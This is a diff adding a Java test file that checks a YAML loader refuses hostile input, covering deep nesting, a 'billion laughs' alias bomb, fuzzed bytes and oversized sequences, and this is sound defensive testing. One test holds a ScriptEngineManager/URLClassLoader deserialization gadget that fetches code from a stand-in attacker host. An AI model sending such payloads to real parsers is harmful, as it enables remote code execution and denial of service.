@@ -1,0 +1,151 @@
+package io.github.peelkit.yaml;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.quicktheories.QuickTheory.qt;
+import static org.quicktheories.generators.SourceDSL.integers;
+import static org.quicktheories.generators.SourceDSL.lists;
+import static org.quicktheories.generators.SourceDSL.strings;
+
+import io.github.peelkit.check.Code;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Input meant to hurt: it must be refused with problems, never by an exception, a stack overflow, an
+ * out-of-memory error or a hang.
+ */
+class HostileInputTest {
+  private static List<Code> codes(LoadResult r) {
+    return r.problems().stream().map(Problem::code).distinct().toList();
+  }
+
+  @Test
+  void deepFlowNestingStopsAtTheDepthLimit() {
+    String text = ("[".repeat(1_000) + "\n").repeat(150) + ("]".repeat(1_000) + "\n").repeat(150);
+    LoadResult r = Yaml.read(text);
+    assertEquals(List.of(Code.PK002), codes(r));
+    assertTrue(r.problems().get(0).message().startsWith("nesting deeper than the limit of 64 levels"));
+  }
+
+  @Test
+  void deepBlockNestingStopsAtTheDepthLimit() {
+    StringBuilder b = new StringBuilder();
+    for (int i = 0; i < 5_000; i++) {
+      b.append(" ".repeat(i)).append("a:\n");
+    }
+    assertEquals(List.of(Code.PK002), codes(Yaml.read(b.toString())));
+  }
+
+  @Test
+  void anAliasBombIsRefusedWithoutExpandingAnything() {
+    StringBuilder b = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
+    for (int i = 1; i < 40; i++) {
+      b.append("a").append(i).append(": &a").append(i).append(" [");
+      for (int k = 0; k < 9; k++) {
+        b.append(k == 0 ? "" : ", ").append("*a").append(i - 1);
+      }
+      b.append("]\n");
+    }
+    LoadResult r = Yaml.read(b.toString());
+    assertEquals(List.of(Code.PK016, Code.PK002), codes(r));
+    assertTrue(r.problems().size() <= Limits.defaults().maxProblems() + 1);
+  }
+
+  @Test
+  void aLanguageTagInstantiatesNothing() {
+    String text =
+        Yaml.doc("Framework", "f")
+            + "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
+            + " [\"http://attacker.invalid/\"]]]]\n";
+    LoadResult r = Yaml.read(text);
+    assertEquals(List.of(Code.PK016), codes(r));
+    assertFalse(r.catalog().frameworks().containsKey("f"));
+  }
+
+  @Test
+  void manyDocumentsStopAtTheLimit() {
+    assertEquals(List.of(Code.PK002), codes(Yaml.read("---\n~\n".repeat(2_000))).subList(1, 2));
+  }
+
+  @Test
+  void binaryJunkIsRefusedAsMalformed(@TempDir Path dir) throws IOException {
+    byte[] junk = new byte[64 * 1024];
+    new Random(20221014L).nextBytes(junk);
+    Path file = Files.write(dir.resolve("junk.yaml"), junk);
+    assertEquals(List.of(Code.PK001), codes(YamlReader.standard().read(file)));
+  }
+
+  @Test
+  void anyBytesGiveProblemsNotExceptions(@TempDir Path dir) {
+    Path file = dir.resolve("any.yaml");
+    qt().withExamples(300)
+        .forAll(lists().of(integers().between(0, 255)).ofSizeBetween(0, 400))
+        .checkAssert(
+            bytes -> {
+              byte[] b = new byte[bytes.size()];
+              for (int i = 0; i < b.length; i++) {
+                b[i] = (byte) (int) bytes.get(i);
+              }
+              try {
+                Files.write(file, b);
+              } catch (IOException e) {
+                throw new AssertionError(e);
+              }
+              LoadResult r = YamlReader.standard().read(file);
+              assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
+            });
+  }
+
+  @Test
+  void anyTextMadeOfYamlPunctuationGivesProblemsNotExceptions() {
+    String alphabet = "ab:- \n\t[]{},&*!|>'\"%@`#?~0.e+<=\\";
+    qt().withExamples(2_000)
+        .forAll(lists().of(integers().between(0, alphabet.length() - 1)).ofSizeBetween(0, 120))
+        .checkAssert(
+            picks -> {
+              StringBuilder b = new StringBuilder();
+              picks.forEach(i -> b.append(alphabet.charAt(i)));
+              LoadResult r = YamlReader.standard().read("fuzz.yaml", b.toString());
+              assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
+            });
+  }
+
+  @Test
+  void anyTextInsideAValidDocumentGivesProblemsNotExceptions() {
+    qt().withExamples(1_000)
+        .forAll(strings().allPossible().ofLengthBetween(0, 40), strings().basicLatinAlphabet().ofLengthBetween(0, 40))
+        .checkAssert(
+            (any, latin) -> {
+              for (String filler : List.of(any, latin)) {
+                String text =
+                    Yaml.essex(
+                        "  - area: " + filler + "\n    grade: " + filler + "\n    extensions: {k: " + filler + "}\n");
+                LoadResult r = YamlReader.standard().read("fuzz.yaml", text);
+                assertTrue(r.problems().stream().allMatch(p -> p.line() >= 1 && p.column() >= 1));
+              }
+            });
+  }
+
+  @Test
+  void controlCharactersAndLoneSurrogatesInATextAreRefused() {
+    assertEquals(List.of(Code.PK001), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\u0000b\n")));
+    assertEquals(List.of(Code.PK001), codes(Yaml.read(Yaml.doc("Framework", "f") + "name: a\uD800b\n")));
+  }
+
+  @Test
+  void aHugeFlowSequenceStopsAtTheNodeLimit() {
+    String text = "[" + "a,\n".repeat(300_000) + "a]\n";
+    assertTrue(StandardCharsets.UTF_8.encode(text).limit() < Limits.defaults().maxFileBytes());
+    LoadResult r = Yaml.read(text);
+    assertEquals(List.of(Code.PK002), codes(r));
+    assertTrue(r.problems().get(0).message().startsWith("more than 250000 values in the file"));
+  }
+}
